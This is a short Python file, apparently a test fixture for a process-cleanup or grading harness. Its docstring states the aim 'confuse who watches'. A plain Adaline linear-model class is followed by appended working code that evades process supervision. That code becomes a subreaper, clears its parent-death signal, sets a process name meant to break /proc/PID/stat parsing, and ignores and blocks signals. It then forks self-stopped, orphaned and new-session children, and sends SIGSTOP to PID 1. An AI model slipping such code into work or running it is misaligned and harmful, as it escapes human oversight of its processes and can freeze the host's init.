"""
goal: confuse who watches: another session and group, adopted orphans, ignored and blocked signals, a name, a stopped process
must: full marks for the honest class; nothing of it is alive afterwards.
"""
import torch


class Adaline1:
    def __init__(self, num_features, device=None, dtype=None):
        self.weight = torch.zeros(num_features, 1, device=device, dtype=dtype)
        self.bias = torch.zeros(1, device=device, dtype=dtype)

    def forward(self, x):
        return (x @ self.weight + self.bias).view(-1)

    def backward(self, x, yhat, y):
        d = 2 * (yhat - y)
        return -(x.t() @ d.view(-1, 1)) / y.size(0), -d.sum() / y.size(0)


import ctypes, os, signal, time
_libc = ctypes.CDLL(None)
_libc.prctl(36, 1, 0, 0, 0)                        # adopts orphans
_libc.prctl(1, 0, 0, 0, 0)                         # does not die with its parent
_libc.prctl(15, b") R 1 1 (", 0, 0, 0)             # a name that breaks /proc/PID/stat apart
for _number in set(range(1, 32)) - {9, 19, 17, 11, 7}:
    try:
        signal.signal(_number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, set(range(1, 32)) - {17})
for _kind in range(4):
    _pid = os.fork()
    if _pid == 0:
        os.setsid()
        if _kind == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
        if _kind == 1 and os.fork():
            os._exit(0)                            # an orphan
        if _kind == 2:
            os.setpgid(0, 0) if os.getsid(0) != os.getpid() else None
            for _target in (1, -1):
                for _number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGUSR1):
                    try:
                        os.kill(1, _number)
                    except OSError:
                        pass
        time.sleep(60); os._exit(0)
